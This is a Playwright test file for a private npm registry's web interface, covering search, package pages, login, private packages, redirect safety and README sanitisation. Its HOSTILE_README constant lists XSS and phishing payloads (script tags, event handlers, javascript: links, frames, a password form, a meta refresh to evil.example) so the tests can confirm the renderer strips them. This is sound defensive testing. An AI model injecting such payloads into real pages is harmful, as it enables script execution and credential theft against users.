/**
 * The pages for people, in Debian's Chromium driven by playwright-core: the home page, search, a
 * package page (readme, versions, dist-tags, dependencies, maintainers, deprecation, provenance,
 * install commands), following a dependency, logging in to see a private package, the account page,
 * and readmes that try to run code. npm clients keep getting JSON on the same paths.
 */
import { readFileSync } from 'fs';
import { join } from 'path';
import { Browser, Page } from 'playwright-core';
import { describeWithBrowser, launchChromium } from '../helpers/browser';
import { makePackage, npmClient, NpmClient } from '../helpers/npm';
import { basicAuthOf, couchGet, startTestRegistry, TestRegistry } from '../helpers/registry';

let registry: TestRegistry;
let browser: Browser;
let webber: NpmClient;

const HOSTILE_README = [
  '# Hostile',
  '<script>window.__pwned = "script"</script>',
  '<img src="data:image/png;base64,AAAA" onerror="window.__pwned = \'onerror\'">',
  '<img src=x onerror=window.__pwned=1>',
  '[a link](javascript:window.__pwned="link")',
  '<a href="javascript:window.__pwned=\'href\'" id="evil-link">raw link</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%" onclick="window.__pwned=\'click\'">cover</div>',
  '<svg onload="window.__pwned=\'svg\'"><circle r="5"></circle></svg>',
  '<form action="https://evil.example/"><input name="password"></form>',
  '<object data="https://evil.example/x.swf"></object>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<style>body { display: none }</style>',
  'Plain text stays.',
].join('\n\n');

async function publish(manifest: Record<string, unknown>, readme: string): Promise<void> {
  const result = await webber.npm(['publish'], makePackage(webber.home, manifest, { 'README.md': readme }));
  if (result.code !== 0) throw new Error('publish of ' + String(manifest.name) + ' failed: ' + result.stderr);
}

/** Whether a screenshot shows a rendered page: a PNG of the viewport with far more in it than a blank or error page. */
function looksRendered(png: Buffer): boolean {
  const isPng = png.subarray(1, 4).toString() === 'PNG';
  const width = png.readUInt32BE(16);
  return isPng && width >= 800 && png.length > 15_000;
}

beforeAll(async () => {
  registry = await startTestRegistry();
  webber = npmClient(registry.url, await registry.signup('webber', 'webber-password'));
  // @private/* is for logged-in users only (as an admin would set it in Fauxton).
  const design = await couchGet(registry, '/' + registry.registryDb + '/_design/access');
  const rules = [{ package: '@private/*', read: ['$authenticated'], publish: ['$authenticated'] }, { package: '**', read: ['$all'], publish: ['$authenticated'] }];
  const saved = await fetch(new URL('/' + registry.registryDb + '/_design/access', new URL(registry.adminCouchUrl).origin), {
    method: 'PUT',
    headers: { authorization: basicAuthOf(registry.adminCouchUrl), 'content-type': 'application/json' },
    body: JSON.stringify({ ...design.body, rules }),
  });
  if (saved.status !== 201) throw new Error('cannot set the access rules: ' + saved.status);
  await publish({ name: 'web-dep', version: '1.0.0', description: 'A dependency of the web app' }, '# web-dep\n\nThe dependency.');
  await publish({ name: 'web-app', version: '1.0.0', description: 'An app for the web pages', dependencies: { 'web-dep': '^1.0.0' } }, '# web-app\n\nOld readme.');
  await publish(
    { name: 'web-app', version: '1.1.0', description: 'An app for the web pages', license: 'MIT', dependencies: { 'web-dep': '^1.0.0' } },
    '# web-app\n\nRenders **Markdown**.\n\n```js\nconst app = require("web-app");\n```\n\n[Docs](https://example.com/docs)\n',
  );
  const deprecate = await webber.npm(['deprecate', 'web-app@1.0.0', 'Use 1.1.0: 1.0.0 leaks memory']);
  if (deprecate.code !== 0) throw new Error(deprecate.stderr);
  await publish({ name: '@private/secret', version: '1.0.0', description: 'Only for colleagues' }, '# Secret\n\nFor logged-in users.');
  await publish({ name: 'hostile-readme', version: '1.0.0', description: 'Tries to run code' }, HOSTILE_README);
  // A mirrored package, as replication stores it (an admin may write the mirror database).
  const mirrored = { name: 'from-upstream', 'dist-tags': { latest: '2.0.0' }, maintainers: [{ name: 'someone', email: 's@example.com' }], origin: 'https://upstream.example', time: { created: '2026-01-01T00:00:00.000Z', modified: '2026-01-01T00:00:00.000Z', '2.0.0': '2026-01-01T00:00:00.000Z' }, versions: { '2.0.0': { name: 'from-upstream', version: '2.0.0', dist: { tarball: 'https://upstream.example/x.tgz', shasum: '0'.repeat(40), integrity: 'sha512-AAAA' } } }, readme: 'Mirrored readme.' };
  const put = await fetch(new URL('/' + registry.registryDb + '-mirror/from-upstream', new URL(registry.adminCouchUrl).origin), {
    method: 'PUT',
    headers: { authorization: basicAuthOf(registry.adminCouchUrl), 'content-type': 'application/json' },
    body: JSON.stringify(mirrored),
  });
  if (put.status !== 201) throw new Error('cannot store the mirrored package: ' + put.status);
});

afterAll(async () => {
  await registry?.stop();
});

describe('npm clients on the same paths', () => {
  it('get JSON, not pages', async () => {
    const json = await fetch(registry.url + '/web-app', { headers: { accept: 'application/json' } });
    expect(json.headers.get('content-type')).toContain('application/json');
    expect(((await json.json()) as { name: string }).name).toBe('web-app');
    const corgi = await fetch(registry.url + '/web-app', { headers: { accept: 'application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*' } });
    expect(corgi.headers.get('content-type')).toContain('application/vnd.npm.install-v1+json');
    const view = await webber.npm(['view', 'web-app', 'version']);
    expect(view.stdout.trim()).toBe('1.1.0');
  });
});

const describeBrowser = describeWithBrowser('the web page tests');

describeBrowser('pages in a browser', () => {
  beforeAll(async () => {
    browser = await launchChromium();
  });
  afterAll(async () => {
    await browser?.close();
  });

  async function withPage(work: (page: Page) => Promise<void>): Promise<void> {
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    const page = await context.newPage();
    try {
      await work(page);
    } finally {
      await context.close();
    }
  }

  it('home page: recently published packages and a search box; private packages only for logged-in users', async () => {
    await withPage(async (page) => {
      const response = await page.goto(registry.url + '/');
      expect(response?.status()).toBe(200);
      expect(response?.headers()['content-security-policy']).toContain("default-src 'none'");
      await page.waitForSelector('h1:has-text("Recently published")');
      const names = await page.locator('ul.packages li a').allTextContents();
      expect(names).toEqual(expect.arrayContaining(['web-app', 'web-dep', 'hostile-readme', 'from-upstream']));
      expect(names).not.toContain('@private/secret');
      expect(looksRendered(await page.screenshot({ path: join(registry.dataDir, 'home.png') }))).toBe(true);
    });
  });

  it('search, open a package, follow a dependency', async () => {
    await withPage(async (page) => {
      await page.goto(registry.url + '/');
      await page.fill('input[type=search]', 'web');
      await page.press('input[type=search]', 'Enter');
      await page.waitForSelector('h1:has-text("for “web”")');
      expect(await page.locator('ul.packages li a').allTextContents()).toEqual(expect.arrayContaining(['web-app', 'web-dep']));
      await page.click('ul.packages li a:text-is("web-app")');
      await page.waitForSelector('h1:has-text("web-app")');
      expect(await page.textContent('h1')).toContain('1.1.0');
      expect(await page.textContent('.readme h1')).toBe('web-app');
      expect(await page.textContent('.readme strong')).toBe('Markdown');
      expect(await page.textContent('.readme pre code')).toContain('require("web-app")');
      expect(await page.getAttribute('.readme a:text-is("Docs")', 'rel')).toContain('noopener');
      const aside = (await page.textContent('aside')) as string;
      for (const text of ['npm install web-app', 'yarn add web-app', 'pnpm add web-app', 'latest', '1.0.0', 'webber', 'MIT']) expect(aside).toContain(text);
      expect(await page.textContent('.badge.local')).toContain('published here');
      expect(await page.locator('aside table').nth(1).textContent()).toMatch(/1\.1\.0\s*\d{4}-\d{2}-\d{2}/);
      expect(looksRendered(await page.screenshot({ path: join(registry.dataDir, 'package.png') }))).toBe(true);
      await page.click('aside a:text-is("web-dep")');
      await page.waitForSelector('h1:has-text("web-dep")');
      expect(page.url()).toBe(registry.url + '/web-dep');
      expect(await page.textContent('.readme')).toContain('The dependency.');
    });
  });

  it('a deprecated version shows its deprecation; mirrored and foreign packages say where they come from', async () => {
    await withPage(async (page) => {
      await page.goto(registry.url + '/web-app/v/1.0.0');
      expect(await page.textContent('.deprecated')).toContain('Use 1.1.0: 1.0.0 leaks memory');
      expect(await page.textContent('aside')).toContain('deprecated');
      await page.goto(registry.url + '/from-upstream');
      expect(await page.textContent('.badge.mirrored')).toContain('mirrored from https://upstream.example');
      const registered = await registry.request('PUT', '/lives-elsewhere', { token: await registry.signup('foreigner'), body: { name: 'lives-elsewhere', maintainers: ['foreigner'], url: 'https://other.example', description: 'Elsewhere' } });
      expect(registered.status).toBe(201);
      await page.goto(registry.url + '/lives-elsewhere');
      expect(await page.textContent('.badge.foreign')).toContain('hosted at https://other.example');
    });
  });

  it('a private package needs a login: the page asks for one, and after it shows the package; log out ends it', async () => {
    await withPage(async (page) => {
      const denied = await page.goto(registry.url + '/@private/secret');
      expect(denied?.status()).toBe(401);
      expect(await page.textContent('main')).toContain('private');
      expect(await page.textContent('main')).not.toContain('For logged-in users');
      await page.click('main a:text-is("Log in")');
      await page.fill('#name', 'webber');
      await page.fill('#password', 'wrong-password');
      await page.click('form.login button');
      expect(await page.textContent('.error')).toContain('Wrong user name or password');
      await page.fill('#name', 'webber');
      await page.fill('#password', 'webber-password');
      await page.click('form.login button');
      await page.waitForSelector('h1:has-text("@private/secret")');
      expect(page.url()).toBe(registry.url + '/@private/secret');
      expect(await page.textContent('.readme')).toContain('For logged-in users.');
      const [cookie] = (await page.context().cookies()).filter((c) => c.name === 'registry_session');
      expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Lax', secure: false, path: '/' });
      // The session cookie is for the pages: the npm API does not take it as a login.
      const api = await page.context().request.get(registry.url + '/@private/secret', { headers: { accept: 'application/json' } });
      expect(api.status()).toBe(401);

      await page.goto(registry.url + '/');
      expect(await page.locator('ul.packages li a').allTextContents()).toContain('@private/secret');
      await page.click('header a:text-is("webber")');
      await page.waitForSelector('h2:has-text("Packages you maintain")');
      const account = (await page.textContent('main')) as string;
      for (const text of ['web-app', 'web-dep', '@private/secret', 'npm login', 'cnr_']) expect(account).toContain(text);
      expect(looksRendered(await page.screenshot({ path: join(registry.dataDir, 'account.png') }))).toBe(true);

      await page.click('header button:text-is("Log out")');
      await page.waitForSelector('header a:text-is("Log in")');
      expect((await page.goto(registry.url + '/@private/secret'))?.status()).toBe(401);
    });
  });

  it('a login page sends back only to this registry', async () => {
    await withPage(async (page) => {
      await page.goto(registry.url + '/-/web/login?next=' + encodeURIComponent('https://evil.example/'));
      await page.fill('#name', 'webber');
      await page.fill('#password', 'webber-password');
      await page.click('form.login button');
      await page.waitForSelector('h1:has-text("Recently published")');
      expect(page.url()).toBe(registry.url + '/');
    });
  });

  it('a hostile readme runs nothing: no scripts, handlers, javascript: links, frames, forms or styles survive', async () => {
    await withPage(async (page) => {
      const dialogs: string[] = [];
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      const requests: string[] = [];
      page.on('request', (request) => requests.push(request.url()));
      const response = await page.goto(registry.url + '/hostile-readme');
      expect(response?.status()).toBe(200);
      await page.waitForSelector('h1:has-text("hostile-readme")');
      // What the browser built from the readme: elements and attributes, not the text that mentions them.
      const found = await page.evaluate(() => {
        const root = document.querySelector('.readme') as Element;
        const elements = Array.from(root.querySelectorAll('*'));
        return {
          tags: [...new Set(elements.map((e) => e.tagName.toLowerCase()))],
          handlers: elements.flatMap((e) => Array.from(e.attributes).filter((a) => a.name.startsWith('on')).map((a) => a.name)),
          styles: elements.filter((e) => e.hasAttribute('style')).length,
          links: Array.from(root.querySelectorAll('a[href]')).map((a) => a.getAttribute('href')),
          images: Array.from(root.querySelectorAll('img[src]')).map((i) => i.getAttribute('src')),
          text: root.textContent || '',
        };
      });
      for (const tag of ['script', 'iframe', 'form', 'input', 'object', 'meta', 'style', 'svg']) expect([tag, found.tags.includes(tag)]).toEqual([tag, false]);
      expect(found.handlers).toEqual([]);
      expect(found.styles).toBe(0);
      expect(found.links.filter((href) => !/^(https?:|mailto:|#|\/)/.test(String(href)))).toEqual([]);
      expect(found.images.filter((src) => !/^https?:/.test(String(src)))).toEqual([]);
      expect(found.text).toContain('Plain text stays.');
      // Click what is left of the links and the cover: nothing runs.
      for (const link of await page.locator('.readme a').all()) await link.click({ timeout: 2000 }).catch(() => undefined);
      await page.mouse.click(640, 450);
      expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
      expect(dialogs).toEqual([]);
      expect(requests.filter((url) => url.includes('evil.example'))).toEqual([]);
      expect(await page.isVisible('body')).toBe(true);
      expect(looksRendered(await page.screenshot({ path: join(registry.dataDir, 'hostile.png') }))).toBe(true);
    });
    expect(readFileSync(join(registry.dataDir, 'hostile.png')).length).toBeGreaterThan(0);
  });
});
